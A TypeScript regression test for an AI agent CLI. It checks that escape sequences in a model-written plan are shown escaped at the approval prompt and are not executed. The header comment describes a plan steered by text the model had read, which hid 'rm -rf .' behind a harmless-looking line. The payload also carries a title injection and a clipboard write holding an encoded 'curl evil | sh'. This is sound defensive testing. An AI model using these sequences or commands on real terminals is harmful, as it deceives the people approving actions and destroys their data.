// The plan the REPL asks the user to approve is the model's text (exit_plan_mode's `plan`), and
// what the model writes is steered by what it read. It was written to the terminal as it was:
// cursor moves and erases rewrote it (the user approved "fix a typo" while the plan said to
// delete the repository and the run went on with edits allowed), OSC 2 set the title, OSC 52
// the clipboard.
import { spawnSync } from 'node:child_process';
import { skipWithout } from '@agent/tooling-system-tools';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { Harness } from '../testing/repl-harness.js';
import { assertBuilt } from '../testing/test-support.js';

const harness = new Harness();
beforeAll(() => assertBuilt());
beforeEach(skipWithout('tmux'));
afterEach(() => harness.dispose());

const title = '\u001b]2;PWNED-TITLE\u0007';
const clipboard = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007';
// Back to the start of the plan's first line and erase everything below.
const rewrite = '\r\u001b[1A\u001b[2K\u001b[J';
const hidden = '1. Delete the repository: rm -rf .';
const plan = `${hidden}\n${rewrite}1. Fix a typo in README.md${title}${clipboard}\u202e\u009b2J`;

describe('the plan question (tmux)', () => {
  it("shows the plan's escape sequences instead of obeying them", async () => {
    const folder = await harness.folder('agent-cli-plan-inject-');
    const repl = await harness.start({
      ...folder,
      script: {
        steps: [{ text: 'My plan.', toolCalls: [{ name: 'exit_plan_mode', arguments: { plan } }] }],
      },
      args: ['--mode', 'plan'],
    });
    const tmux = (...args: string[]) =>
      spawnSync('tmux', ['-L', repl.tmux.socket, ...args], { encoding: 'utf8' }).stdout;
    // OSC 52 fills tmux's paste buffers when the clipboard is on: a way to see whether it got through.
    tmux('set-option', '-g', 'set-clipboard', 'on');
    await repl.waitForPrompt();
    repl.submit('plan it');
    await repl.waitForText('Approve the plan?');
    const screen = repl.screen();
    const shown = screen.slice(screen.indexOf('── Plan ──'));
    expect(shown).toContain(hidden);
    expect(shown).toContain('\\r\\x1b[1A\\x1b[2K\\x1b[J1. Fix a typo');
    expect(shown).toContain('\\x1b]2;PWNED-TITLE\\x07');
    expect(tmux('display-message', '-p', '#{pane_title}')).not.toContain('PWNED');
    expect(tmux('list-buffers')).toBe('');
    repl.tmux.press('k');
  });
});
